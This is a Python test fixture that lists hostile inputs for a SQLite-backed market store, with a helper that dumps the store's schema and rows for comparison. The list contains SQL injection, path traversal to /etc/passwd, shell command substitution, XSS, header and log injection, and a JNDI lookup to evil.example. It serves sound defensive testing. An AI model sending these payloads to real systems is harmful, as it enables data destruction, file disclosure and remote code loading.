"""Hostile texts: injections into other languages, path traversal, unusual encodings."""

import sqlite3
from contextlib import closing
from pathlib import Path

PAYLOADS = [
    *(
        "'",
        '"',
        "BTC' OR '1'='1",
        "BTC'; DROP TABLE changes;--",
        "1 UNION SELECT key_hash FROM keys",
    ),
    *("%", "_", "*", "BTC\x00", "%00", "\x00", "../../../../etc/passwd", "..\\..\\boot.ini"),
    *("file:///etc/passwd", "/etc/passwd%00.json", "{{7*7}}", "${jndi:ldap://evil.example}"),
    *("$(id)", "`id`", "%s%n%x", "<script>alert(1)</script>", "x" * 5_000, "BTC," * 1_000 + "ETH"),
    *("\u202eCTB", "B\u200bTC", "\ufeffBTC", "\U0001f600", "\u0130", "\uff11\uff12", "\ue000"),
    *("BTC\r\nSet-Cookie: a=b", "a\nlevel=info event=forged", "\x1b[31mred", "\u2028", "\x85"),
    *("NaN", "1e999", "-0", "0x10", "true", "null", "[]", "9" * 5_000, "9999-12-31T23:59:59-23:59"),
]
# Only JSON can represent this value.
LONE_SURROGATE = "\ud800"
VALUES = [
    *(0, -1, 2**63, 2**64, 10**300, -1e-300, 1e308, True, False, None, [], {}, ["BTC"], {"a": 1}),
    [[[[[]]]]],
]
HOSTILE = [*PAYLOADS, LONE_SURROGATE, *VALUES]


def dump_store(folder: Path, *, without: frozenset[str] = frozenset()) -> list[str]:
    """Return the schema and all rows of both files of a store, except for some tables."""
    lines: list[str] = []
    for name in ("market.db", "market.db-access"):
        with closing(sqlite3.connect(folder / name)) as db:
            tables = [row[0] for row in db.execute("SELECT name FROM sqlite_master ORDER BY name")]
            lines += [repr(row) for row in db.execute("SELECT * FROM sqlite_master ORDER BY name")]
            for table in tables:
                is_table = db.execute(
                    "SELECT 1 FROM sqlite_master WHERE type = 'table' AND name = ?", (table,)
                )
                if table not in without and is_table.fetchone():
                    lines += [repr(row) for row in db.execute(f'SELECT * FROM "{table}"')]
    return lines
